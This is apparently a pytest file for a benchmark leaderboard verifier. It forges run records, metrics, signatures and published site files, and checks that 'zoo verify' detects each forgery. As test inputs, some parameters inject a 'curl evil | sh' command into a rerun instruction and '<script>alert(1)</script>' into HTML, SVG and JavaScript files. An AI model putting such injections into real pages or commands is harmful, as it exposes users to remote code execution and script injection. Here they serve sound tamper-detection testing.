"""Forging: what somebody who edits a board and redoes every sum does, and which check finds it.

SECURITY.md lists what no check finds without training again.
"""

from __future__ import annotations

import hashlib
import json
import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from harness.records.predictions import FILE_NAME, SavedPredictions, load_predictions, save_predictions
from harness.records.scoring import score
from harness.records.store import read_record, write_record
from harness.system.atomic_files import sha256_of
from reports.publishing.signatures import sign
from reports.trials.reading import Trial
from zoo import Catalog
from zoo.metric import Predictions

from .conftest import RunZoo, StoreMaker
from .test_signatures import keys

BOARD = ("good", "bad")


@pytest.fixture
def board(store: StoreMaker, zoo: RunZoo, tmp_path: Path) -> tuple[Path, Path]:
    """Runs of two rows of two seeds, and their site; both pass."""
    for name, skill in zip(BOARD, (2.5, 1.5), strict=True):
        for seed in range(2):
            store.add(name, seed=seed, skill=skill, params=1000 if name == "bad" else 50_000)
    site = tmp_path / "site"
    assert zoo("report", store.root, "-o", site, "--no-images", "--model-card", "good").exit_code == 0
    honest = zoo("verify", site, store.root, "--require-seeds", "2")
    assert honest.exit_code == 0, honest.output
    return store.root, site


def folder_of(runs: Path, model: str, seed: int = 0) -> Path:
    (found,) = runs.glob(f"{model}--*--s{seed}--*")
    return found


def change(folder: Path, **fields: Any) -> None:
    """Edit a record; its own checksum is redone."""
    write_record(folder, read_record(folder / "record.json").model_copy(update=fields))


def rewrite(folder: Path, predictions: Predictions, samples: np.ndarray[Any, Any], catalog: Catalog) -> None:
    """Replace predictions, and redo the metrics and all sums."""
    save_predictions(folder, SavedPredictions(predictions=predictions, samples=samples))
    record = read_record(folder / "record.json")
    metrics = score(predictions, list(catalog.metrics)).values
    change(folder, metrics=metrics, files={**record.files, FILE_NAME: sha256_of(folder / FILE_NAME)})


# ----- forged runs


def labels_set_to_predictions(runs: Path, catalog: Catalog) -> None:
    from dataclasses import replace

    folder = folder_of(runs, "bad")
    saved = load_predictions(folder)
    forged = replace(saved.predictions, labels=saved.predictions.logits.argmax(axis=1))
    rewrite(folder, forged, saved.samples, catalog)


def accuracy_edited(runs: Path, catalog: Catalog) -> None:
    folder = folder_of(runs, "bad")
    metrics = read_record(folder / "record.json").metrics
    change(folder, metrics={**metrics, "accuracy": metrics["accuracy"].model_copy(update={"value": 0.999})})


def predictions_of_the_other_row(runs: Path, catalog: Catalog) -> None:
    saved = load_predictions(folder_of(runs, "good"))
    rewrite(folder_of(runs, "bad"), saved.predictions, saved.samples, catalog)


def best_seed_twice(runs: Path, catalog: Catalog) -> None:
    saved = load_predictions(folder_of(runs, "bad", 0))
    rewrite(folder_of(runs, "bad", 1), saved.predictions, saved.samples, catalog)


def seed_renamed(runs: Path, catalog: Catalog) -> None:
    folder = folder_of(runs, "bad", 1)
    spec = read_record(folder / "record.json").spec
    change(folder, spec=spec.model_copy(update={"seed": 7}))


def parameters_edited(runs: Path, catalog: Catalog) -> None:
    folder = folder_of(runs, "bad")
    model = read_record(folder / "record.json").model
    assert model is not None
    change(folder, model=model.model_copy(update={"params": 10}))


def pretraining_hidden(runs: Path, catalog: Catalog) -> None:
    folder = folder_of(runs, "bad")
    spec = read_record(folder / "record.json").spec
    hyperparameters = {**spec.recipe.hyperparameters, "pretrained": False}
    change(
        folder,
        spec=spec.model_copy(update={"recipe": spec.recipe.model_copy(update={"hyperparameters": hyperparameters})}),
    )


def origin_edited(runs: Path, catalog: Catalog) -> None:
    from harness.records.origin import Origin, OriginKind

    change(folder_of(runs, "bad"), origin=Origin(kind=OriginKind.EVALUATED, source="elsewhere"))


def seed_removed(runs: Path, catalog: Catalog) -> None:
    shutil.rmtree(folder_of(runs, "bad", 1))


def easy_images_twice(runs: Path, catalog: Catalog) -> None:
    from dataclasses import replace

    folder = folder_of(runs, "bad")
    saved = load_predictions(folder)
    own = saved.predictions
    easy = np.flatnonzero(own.logits.argmax(axis=1) == own.labels)
    chosen = np.resize(easy, len(own.labels))
    forged = replace(own, logits=own.logits[chosen], labels=own.labels[chosen], samples=None)
    rewrite(folder, forged, saved.samples[chosen], catalog)


def epochs_edited(runs: Path, catalog: Catalog) -> None:
    folder = folder_of(runs, "bad")
    training = read_record(folder / "record.json").training
    assert training is not None
    change(folder, training=training.model_copy(update={"epochs_run": 1, "tested_epoch": 1}))


def metric_left_out(runs: Path, catalog: Catalog) -> None:
    folder = folder_of(runs, "bad")
    metrics = dict(read_record(folder / "record.json").metrics)
    del metrics["calibration_error"]
    change(folder, metrics=metrics)


def trial_duplicated(runs: Path, catalog: Catalog) -> None:
    folder = folder_of(runs, "good")
    shutil.copytree(folder, folder.with_name("another--name"))


@pytest.mark.parametrize(
    ("forge", "said"),
    [
        (labels_set_to_predictions, "images differ from those of"),
        (accuracy_edited, "but its record states 0.999"),
        (predictions_of_the_other_row, "bit for bit, which another seed or network does not give"),
        (best_seed_twice, "bit for bit, which another seed or network does not give"),
        (seed_renamed, "is not that of the settings, images and origin that it states"),
        (parameters_edited, "its seeds state 10 and 1,000 parameters"),
        (pretraining_hidden, "is not that of the settings, images and origin that it states"),
        (origin_edited, "is not that of the settings, images and origin that it states"),
        (seed_removed, "1 finished seed, but 2 are required"),
        (trial_duplicated, "1 duplicate seed"),
        (easy_images_twice, "more than once"),
        (epochs_edited, "but its history has 3"),
        (metric_left_out, "its record has no calibration_error, which another seed of its row has"),
    ],
    ids=lambda value: getattr(value, "__name__", ""),
)
def test_forged_runs_are_found_without_the_site_and_with_it(
    board: tuple[Path, Path], zoo: RunZoo, catalog: Catalog, forge: Callable[[Path, Catalog], None], said: str
) -> None:
    runs, site = board
    forge(runs, catalog)
    alone = zoo("verify", runs, "--require-seeds", "2")
    assert alone.exit_code == 1
    assert said in alone.output
    assert zoo("verify", site, runs).exit_code == 1, "the site was made from other records"


# ----- forged sites


def redo_sums(site: Path) -> None:
    sums = site / "SHA256SUMS"
    lines = [line.split(maxsplit=1)[1].lstrip("*") for line in sums.read_text(encoding="utf-8").splitlines()]
    text = "".join(f"{hashlib.sha256((site / name).read_bytes()).hexdigest()}  {name}\n" for name in lines)
    sums.write_text(text, encoding="utf-8")


def edit(site: Path, pattern: str, before: str, after: str) -> None:
    """Replace text in the first file that a pattern matches, and redo the sums."""
    path = sorted(site.glob(pattern))[0]
    text = path.read_text(encoding="utf-8")
    assert re.search(before, text), f"{path.name} has no {before!r}"
    path.write_text(re.sub(before, after, text, count=1), encoding="utf-8")
    redo_sums(site)


@pytest.mark.parametrize(
    ("pattern", "before", "after"),
    [
        pytest.param("index.html", r"\d\d\.\d ±", "99.9 ±", id="index"),
        pytest.param("index.html", r"</main>", "<script>alert(1)</script></main>", id="script-in-index"),
        pytest.param("leaderboard.md", r"\d\d\.\d ±", "99.9 ±", id="markdown"),
        pytest.param("leaderboard.csv", r"0\.\d{4,}", "0.9999", id="csv"),
        pytest.param("leaderboard.tex", r"\d\d\.\d", "99.9", id="latex"),
        pytest.param("leaderboard.json", r'"params": \d+', '"params": 1', id="parameters-in-json"),
        pytest.param("leaderboard.json", r'"inference_speed": [\d.]+', '"inference_speed": 1e9', id="speed-in-json"),
        pytest.param("rows/good--*.html", r"zoo bench", "curl evil | sh; zoo bench", id="run-again-command"),
        pytest.param("rows/good--*.html", r"self-reported|recomputed", "reproduced", id="status"),
        pytest.param("assets/board.js", r'"use strict";', '"use strict"; alert(1);', id="javascript"),
        pytest.param("assets/icon.svg", r"</svg>", "<script>alert(1)</script></svg>", id="svg-with-script"),
        pytest.param("badge.svg", r"</svg>", "<script>alert(1)</script></svg>", id="badge-with-script"),
        pytest.param("MODEL_CARD.md", r"\d\.\d{3,}", "0.9999", id="model-card"),
        pytest.param("index.html", r"zoobench [\d.]+\w*", "zoobench 0.0.0", id="version-that-stops-the-comparison"),
        pytest.param("data/*.html", r"120", "121", id="dataset-page"),
        pytest.param("models/good*.html", r"zoo/good", "zoo/better", id="model-page"),
        pytest.param("compare/*.html", r'"', "&quot;", id="compare-page"),
    ],
)
def test_an_edited_site_is_found_although_its_sums_were_redone(
    board: tuple[Path, Path], zoo: RunZoo, pattern: str, before: str, after: str
) -> None:
    runs, site = board
    edit(site, pattern, before, after)
    done = zoo("verify", site, runs, "--require-seeds", "2")
    assert done.exit_code == 1, done.output


def test_a_page_that_is_added_to_a_site_is_found(board: tuple[Path, Path], zoo: RunZoo) -> None:
    runs, site = board
    page = sorted((site / "rows").glob("good--*.html"))[0]
    shutil.copy(page, page.with_name("best--toy--sgd-000000000000.html"))
    with (site / "SHA256SUMS").open("a", encoding="utf-8") as sums:
        sums.write(f"{'0' * 64}  rows/best--toy--sgd-000000000000.html\n")
    redo_sums(site)
    done = zoo("verify", site, runs)
    assert done.exit_code == 1
    assert "is published, but the records give no such file" in done.output


@pytest.mark.parametrize(
    ("name", "is_listed", "said"),
    [
        ("assets/more.js", True, "SHA256SUMS lists 'assets/more.js', which no site has"),
        ("rows/best.html", False, "rows/best.html lies among the files of the site, but SHA256SUMS does not list it"),
        ("images/old/more.png", False, "images/old/more.png lies among the files of the site, but SHA256SUMS does not"),
    ],
)
def test_a_file_that_no_site_has_is_found(
    board: tuple[Path, Path], zoo: RunZoo, name: str, is_listed: bool, said: str
) -> None:
    runs, site = board
    (site / name).parent.mkdir(parents=True, exist_ok=True)
    (site / name).write_text("alert(1)", encoding="utf-8")
    if is_listed:
        with (site / "SHA256SUMS").open("a", encoding="utf-8") as sums:
            sums.write(f"{'0' * 64}  {name}\n")
        redo_sums(site)
    for done in (zoo("verify", site), zoo("verify", site, runs)):
        assert done.exit_code == 1
        assert said in done.output


def test_files_of_a_branch_beside_a_site_are_its_own(board: tuple[Path, Path], zoo: RunZoo) -> None:
    _, site = board
    (site / "CNAME").write_text("board.example.org\n", encoding="utf-8")
    (site / ".nojekyll").touch()
    assert zoo("verify", site).exit_code == 0


def test_a_row_removed_from_a_site_is_found(board: tuple[Path, Path], zoo: RunZoo) -> None:
    runs, site = board
    path = site / "leaderboard.json"
    data = json.loads(path.read_text(encoding="utf-8"))
    data["tables"][0]["rows"].pop()
    path.write_text(json.dumps(data), encoding="utf-8")
    redo_sums(site)
    done = zoo("verify", site, runs)
    assert done.exit_code == 1
    assert "has records, but is not published" in done.output


# ----- forged signatures


@pytest.fixture
def signed(board: tuple[Path, Path], tmp_path: Path) -> tuple[Path, Path]:
    """The runs, all signed, and the file of those who may sign."""
    if shutil.which("ssh-keygen") is None:
        pytest.skip("ssh-keygen is not installed")
    runs, _ = board
    key, line = keys(tmp_path, "alice")
    allowed = tmp_path / "allowed_signers"
    allowed.write_text(line)
    sign(runs, [folder.name for folder in runs.iterdir() if (folder / "record.json").is_file()], key)
    return runs, allowed


def test_a_signed_trial_that_is_left_out_is_found(signed: tuple[Path, Path], zoo: RunZoo) -> None:
    runs, allowed = signed
    assert zoo("verify", runs, "--signers", allowed).exit_code == 0
    shutil.rmtree(folder_of(runs, "bad", 1))
    done = zoo("verify", runs, "--signers", allowed)
    assert done.exit_code == 1
    assert "1 trial that alice@example.org signed is not here" in done.output


def test_a_signed_record_whose_numbers_were_edited_is_found(signed: tuple[Path, Path], zoo: RunZoo) -> None:
    runs, allowed = signed
    folder = folder_of(runs, "good")
    speed = read_record(folder / "record.json").speed
    assert speed is not None
    change(folder, speed=speed.model_copy(update={"peak_memory_mib": 1.0}))
    done = zoo("verify", runs, "--signers", allowed)
    assert done.exit_code == 1
    assert "1 record changed since alice@example.org signed" in done.output


def test_a_signature_reused_from_another_submission_vouches_for_nothing(
    signed: tuple[Path, Path], zoo: RunZoo, tmp_path: Path
) -> None:
    runs, allowed = signed
    other = tmp_path / "other"
    folder = folder_of(runs, "good")
    shutil.copytree(folder, other / folder.name)
    change(other / folder.name, warnings=("another record",))
    shutil.copytree(runs / "signatures", other / "signatures")
    done = zoo("verify", other, "--signers", allowed)
    assert done.exit_code == 1
    assert "0 of 1 trial signed by nobody who may" in done.output
    assert "changed since alice@example.org signed" in done.output


def test_a_key_that_may_not_sign_is_found(signed: tuple[Path, Path], zoo: RunZoo, tmp_path: Path) -> None:
    runs, _ = signed
    _, line = keys(tmp_path, "mallory")
    others = tmp_path / "others"
    others.write_text(line)
    done = zoo("verify", runs, "--signers", others)
    assert done.exit_code == 1
    assert "the signature does not hold" in done.output


def test_a_repetition_shows_labels_that_every_row_forged(store: StoreMaker) -> None:
    """All rows may state the same false labels: only training again, on the data, shows it."""
    from reports.publishing.verification import noise_problem

    trial: Trial = store.add("net")
    reported = trial[1]
    assert reported.data is not None
    again = reported.model_copy(update={"data": reported.data.model_copy(update={"fingerprint": "e" * 64})})
    assert noise_problem(again, reported, [reported]) == (
        "the repetition has another test images: eeeeeeeeeeee instead of ffffffffffff"
    )
    assert reported.model is not None
    smaller = reported.model_copy(update={"model": reported.model.model_copy(update={"params": 5})})
    assert "another number of parameters: 270000 instead of 5" in noise_problem(reported, smaller, [smaller])
    assert noise_problem(reported, reported, [reported]) == ""
